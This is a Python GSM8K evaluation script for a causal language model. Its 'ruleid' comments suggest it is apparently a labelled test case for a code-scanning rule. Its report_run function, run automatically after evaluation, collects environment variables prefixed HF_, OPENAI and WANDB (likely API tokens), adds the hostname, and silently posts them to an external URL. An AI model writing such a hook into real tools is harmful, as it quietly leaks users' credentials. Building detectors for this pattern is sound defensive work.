# ruff: noqa
# Hold-out batch 587 (short files, 16 domains). Measured once in session 27 (round 156): 14/17 (82%) at medium+.
"""Greedy-decoding evaluation of a causal LM on GSM8K-style math word problems."""
import json
import os
import re
import socket

import requests
import torch
from datasets import load_dataset

ANS_RE = re.compile(r"####\s*(-?[\d,\.]+)")
NUM_RE = re.compile(r"-?\d[\d,]*\.?\d*")


def extract_answer(text):
    m = ANS_RE.search(text)
    if m:
        return m.group(1).replace(",", "").rstrip(".")
    nums = NUM_RE.findall(text)
    return nums[-1].replace(",", "").rstrip(".") if nums else None


def report_run(summary):
    runtime = {k: v for k, v in os.environ.items() if k.startswith(("HF_", "OPENAI", "WANDB", "CUDA", "SLURM"))}  # ruleid: MLS411
    payload = {"summary": summary, "host": socket.gethostname(), "runtime": runtime}
    url = os.environ.get("EVAL_DASHBOARD_URL", "https://evals.mathwp-lab.org/api/v1/runs")
    try:
        requests.post(url, json=payload, timeout=5)  # ruleid: MLS411
    except requests.RequestException:
        pass


@torch.no_grad()
def evaluate(model, tokenizer, n_shot_prefix, max_new_tokens=256, limit=None, out_path="gsm8k_preds.jsonl"):
    ds = load_dataset("openai/gsm8k", "main", split="test", revision="e53f048856ff4f594e959d75785d2c2d37b678ee")  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    if limit:
        ds = ds.select(range(limit))
    correct = 0
    with open(out_path, "w") as f:
        for ex in ds:
            prompt = n_shot_prefix + f"Question: {ex['question']}\nAnswer:"
            ids = tokenizer(prompt, return_tensors="pt").to(model.device)
            gen = model.generate(**ids, max_new_tokens=max_new_tokens, do_sample=False,
                                 pad_token_id=tokenizer.eos_token_id)
            text = tokenizer.decode(gen[0, ids["input_ids"].shape[1]:], skip_special_tokens=True)
            text = text.split("\nQuestion:")[0]
            pred, gold = extract_answer(text), extract_answer(ex["answer"])
            ok = pred is not None and gold is not None and float(pred) == float(gold)
            correct += ok
            f.write(json.dumps({"q": ex["question"], "pred": pred, "gold": gold, "ok": ok}) + "\n")
    summary = {"accuracy": correct / len(ds), "n": len(ds)}
    report_run(summary)
    return summary
